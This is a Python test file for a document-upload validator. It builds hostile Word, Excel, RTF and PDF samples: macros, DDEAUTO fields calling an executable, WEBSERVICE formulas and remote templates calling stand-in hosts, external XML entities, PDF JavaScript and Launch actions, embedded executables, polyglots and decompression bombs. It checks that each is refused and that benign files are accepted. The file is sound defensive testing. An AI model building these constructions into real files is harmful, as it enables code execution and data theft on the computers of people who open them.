"""What runs, fetches, hides or swells up in a file is refused with a sentence on what to do; what
people's own files hold is taken.
"""

import io

import pikepdf
import pytest
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference

from foundation.web.uploads import PLAN_KINDS, XLSX, RefusedFile, judge
from tests.foundation.web import hostile
from tests.plans import files

MACROS, OUTSIDE, EMBEDDED = "có macro", "lấy nội dung từ tệp hoặc trang khác", "nhúng bên trong"
ACTIONS, ATTACHED, DTD = "có lệnh tự chạy", "đính kèm bên trong", "phần khai báo lạ"
MIXED, PIXELS, SWOLLEN = "vừa là tệp loại này", "có ảnh quá lớn", "bung ra quá lớn"
OLD_WORD = hostile.OLE + bytes(600) + "WordDocument".encode("utf-16-le")

REFUSED = {
    "macros of Word": (MACROS, lambda: hostile.docx(**{"word/vbaProject.bin": hostile.OLE})),
    "macros of Excel": (MACROS, lambda: hostile.xlsx(**{"xl/vbaProject.bin": hostile.OLE})),
    "macros by another name": (
        MACROS,
        lambda: hostile.with_parts(
            hostile.related("vbaProject", "a.dat", "Internal"), **{"word/a.dat": b"x"}
        ),
    ),
    "macros of Excel 4": (
        MACROS,
        lambda: hostile.xlsx(**{"xl/macrosheets/sheet1.xml": b"<macrosheet/>"}),
    ),
    "said to hold macros": (
        MACROS,
        lambda: hostile.types("application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "a control": (MACROS, lambda: hostile.related("control", "a.xml", "Internal")),
    "macros of an old Word file": (
        MACROS,
        lambda: OLD_WORD + "_VBA_PROJECT".encode("utf-16-le"),
    ),
    "a template from afar": (
        OUTSIDE,
        lambda: hostile.related("attachedTemplate", "https://a.example/m.dotm"),
    ),
    "a template of a share": (
        OUTSIDE,
        lambda: hostile.related("attachedTemplate", r"file:///\\a.example\m.dotm"),
    ),
    "a picture from afar": (OUTSIDE, lambda: hostile.related("image", "http://a.example/a.png")),
    "another workbook": (
        OUTSIDE,
        lambda: hostile.xlsx(
            **{
                "xl/externalLinks/_rels/externalLink1.xml.rels": hostile.part_of(
                    hostile.related("externalLinkPath", "file:///C:/a.xlsx"),
                    "word/_rels/document.xml.rels",
                )
            }
        ),
    ),
    "DDE in pieces": (OUTSIDE, lambda: hostile.of_fields(" DD", "EAUTO ", 'c:\\a.exe "b"')),
    "DDE in letters": (OUTSIDE, lambda: hostile.of_fields("&#68;DE c:\\a.exe")),
    "DDE in numbers": (OUTSIDE, lambda: hostile.of_fields("QUOTE 68 68 69 65 85")),
    "DDE of Excel": (
        OUTSIDE,
        lambda: hostile.xlsx(
            **{"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink/></externalLink>"}
        ),
    ),
    "DDE of Excel by another name": (
        OUTSIDE,
        lambda: hostile.xlsx(**{"xl/worksheets/sheet9.xml": hostile.DDE_LINK}),
    ),
    "data from afar by another name": (
        OUTSIDE,
        lambda: hostile.xlsx(**{"xl/shared/a.xml": b"<connections/>"}),
    ),
    "a formula that asks the network": (
        OUTSIDE,
        lambda: hostile.of_formula('_xlfn.WEBSERVICE("http://a.example")'),
    ),
    "a picture of a formula": (OUTSIDE, lambda: hostile.of_formula('_xlfn.IMAGE("http://a")')),
    "a formula in numbers": (OUTSIDE, lambda: hostile.of_formula('&#87;EBSERVICE("http://a")')),
    "a formula in wide letters": (
        OUTSIDE,
        lambda: hostile.of_formula('WEBSERVICE("http://a")', encoding="utf-16"),
    ),
    "a formula after a thousand rows": (
        OUTSIDE,
        lambda: hostile.of_formula('WEBSERVICE("http://a")', before=b"<row/>" * 180_000),
    ),
    "a mode in spaces": (OUTSIDE, lambda: hostile.related("image", "http://a", " External ")),
    "an archive of another kind": (
        EMBEDDED,
        lambda: hostile.docx(**{"word/media/a.png": b"7z\xbc\xaf\x27\x1c" + bytes(99)}),
    ),
    "DDE in pieces of RTF": (
        OUTSIDE,
        lambda: b"{\\rtf1{\\field{\\*\\fldinst {\\b D}{\\i\\'44E}AUTO c:\\\\a.exe}{\\fldrslt a}}}",
    ),
    "a picture of RTF from afar": (
        OUTSIDE,
        lambda: b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "http://a.example"}{\\fldrslt a}}}',
    ),
    "DDE of an old Word file": (OUTSIDE, lambda: OLD_WORD + b"\x13 DDEAUTO c:\\a.exe"),
    "DDE of RTF": (OUTSIDE, lambda: b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\a.exe}}}"),
    "a text included": (OUTSIDE, lambda: hostile.of_fields('INCLUDETEXT "http://a.example"')),
    "data from afar": (OUTSIDE, lambda: hostile.xlsx(**{"xl/connections.xml": b"<connections/>"})),
    "entities": (DTD, hostile.with_dtd),
    "entities in wide letters": (DTD, lambda: hostile.with_dtd("utf-16")),
    "entities in a small part": (
        DTD,
        lambda: hostile.xlsx(**{"docProps/a.xml": b"<!DOCTYPE a SYSTEM 'http://a.example'><a/>"}),
    ),
    "a part that lies elsewhere": ("bị hỏng", lambda: hostile.docx(**{"../../a.txt": b"a"})),
    "letters of a mainframe": (
        "bị hỏng",
        lambda: hostile.docx(**{"customXml/a.xml": b'<?xml version="1.0" encoding="cp037"?><a/>'}),
    ),
    "an object": (
        EMBEDDED,
        lambda: hostile.docx(**{"word/embeddings/oleObject1.bin": hostile.OLE}),
    ),
    "an object by another name": (
        EMBEDDED,
        lambda: hostile.docx(**{"word/media/image9.png": hostile.OLE + bytes(99)}),
    ),
    "a program": (
        EMBEDDED,
        lambda: hostile.docx(**{"word/media/a.png": b"MZ" + bytes(90) + b"PE\x00\x00"}),
    ),
    "a page of its own": (EMBEDDED, lambda: hostile.related("aFChunk", "a.html", "Internal")),
    "a zip in it": (
        EMBEDDED,
        lambda: hostile.docx(**{"word/embeddings/a.docx": files.zip_bytes(a=b"1")}),
    ),
    "macros in a workbook in it": (
        MACROS,
        lambda: hostile.docx(
            **{"word/embeddings/a.xlsx": hostile.xlsx(**{"xl/vbaProject.bin": hostile.OLE})}
        ),
    ),
    "an object in RTF": (EMBEDDED, lambda: b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}"),
    "a script": (ACTIONS, lambda: hostile.pdf(OpenAction=hostile.action("JavaScript", JS="a()"))),
    "a script deep within": (
        ACTIONS,
        lambda: hostile.pdf(AA=pikepdf.Array([pikepdf.Dictionary(A=hostile.action("JavaScript"))])),
    ),
    "another file opened": (
        ACTIONS,
        lambda: hostile.pdf(OpenAction=hostile.action("GoToR", F="a")),
    ),
    "a file in it opened": (
        ACTIONS,
        lambda: hostile.pdf(OpenAction=hostile.action("GoToE", F="a")),
    ),
    "a program started": (ACTIONS, lambda: hostile.pdf(OpenAction=hostile.action("Launch", F="a"))),
    "a form that is a program": (
        ACTIONS,
        lambda: hostile.pdf(AcroForm=pikepdf.Dictionary(XFA=pikepdf.Array([]))),
    ),
    "a script in a name of its own": (
        ACTIONS,
        lambda: files.pdf_bytes(b"/OpenAction<</S/#4aavaScript/JS(a)>>"),
    ),
    "a file in it": (ATTACHED, hostile.pdf_with_a_file),
    "a zip behind pages": (MIXED, lambda: hostile.pdf() + files.zip_bytes(a=b"1") + b"%%EOF"),
    "a page before pages": (MIXED, lambda: b"<script>a()</script>" + hostile.pdf()),
    "pages before a package": (MIXED, lambda: b"PK\x03\x04%PDF-1.4" + files.docx_bytes()),
    "a zip before a package": (MIXED, lambda: files.zip_bytes(a=b"1") + files.docx_bytes()),
    "a zip behind a picture": (
        MIXED,
        lambda: files.JPEG + files.zip_bytes(a=b"1"),
    ),
    "absurd pixels": (PIXELS, lambda: hostile.png(60_000, 60_000)),
    "absurd pixels of a scan's second page": (PIXELS, lambda: hostile.tiff(60_000, 60_000)),
    "absurd pixels in a PDF file": (PIXELS, lambda: hostile.pdf_with_a_picture(60_000, 60_000)),
    "absurd pixels in a Word file": (
        PIXELS,
        lambda: hostile.docx(**{"word/media/image9.png": hostile.png(60_000, 60_000)}),
    ),
    "a part named twice": (
        "bị hỏng",
        lambda: hostile.docx(**{"WORD/document.xml": b"<a/>"}),
    ),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_is_hostile_is_refused_with_a_sentence(what):
    complaint, make = REFUSED[what]

    with pytest.raises(RefusedFile) as refused:
        judge(files.upload("tep", make()), kinds=PLAN_KINDS)

    (sentence,) = refused.value.messages
    assert complaint in sentence
    assert "hãy" in sentence


def test_what_unpacks_beyond_the_bound_is_refused_wherever_it_lies():
    inner = hostile.xlsx(**{"xl/media/a.bin": bytes(3_000_000)})
    file = files.upload("a.docx", hostile.docx(**{"word/embeddings/a.xlsx": inner}))

    with pytest.raises(RefusedFile, match=SWOLLEN):
        judge(file, unpacked=2_000_000)


def chart_bytes():
    book = Workbook()
    book.active.append([1, 2, 3])
    chart = BarChart()
    chart.add_data(Reference(book.active, min_col=1, max_col=3, min_row=1))
    book.active.add_chart(chart, "A5")
    packed = io.BytesIO()
    book.save(packed)
    return packed.getvalue()


TAKEN = {
    "a link to click": lambda: hostile.related("hyperlink", "https://xa.example"),
    "its writer's template": lambda: hostile.related(
        "attachedTemplate", r"file:///C:\Users\a\Normal.dotm"
    ),
    "words about functions": lambda: hostile.xlsx(
        **{"xl/sharedStrings.xml": b"<sst><si><t>WEBSERVICE(a)</t></si></sst>"}
    ),
    "a link in RTF": lambda: (
        b'{\\rtf1{\\field{\\*\\fldinst HYPERLINK "http://a.vn"}{\\fldrslt DDE}} INCLUDETEXT http:}'
    ),
    "a field of its own": lambda: hostile.of_fields(' TOC \\o "1-3" '),
    "words of a mail address": lambda: hostile.of_fields('HYPERLINK "mailto:a@xa.example"'),
    "figures of a chart": lambda: hostile.docx(**{"word/embeddings/a.xlsx": chart_bytes()}),
    "a picture that nobody can read": lambda: hostile.docx(**{"word/media/a.png": b"\x89PNG"}),
    "a link on a page": lambda: hostile.pdf(OpenAction=hostile.action("URI", URI="https://a.vn")),
    "words about scripts": lambda: hostile.pdf(Info=pikepdf.Dictionary(Title="/JavaScript /JS")),
    "a number of its own": lambda: hostile.pdf(Length=5),
    "a scan": lambda: hostile.tiff(9, 9),
    "a large photograph": lambda: hostile.png(12_000, 9_000),
}


@pytest.mark.parametrize("what", TAKEN)
def test_what_people_send_is_taken(what):
    assert judge(files.upload("tep", TAKEN[what]()), kinds=PLAN_KINDS)


def test_a_workbook_with_a_chart_is_taken():
    assert judge(files.upload("a.xlsx", chart_bytes())) is XLSX
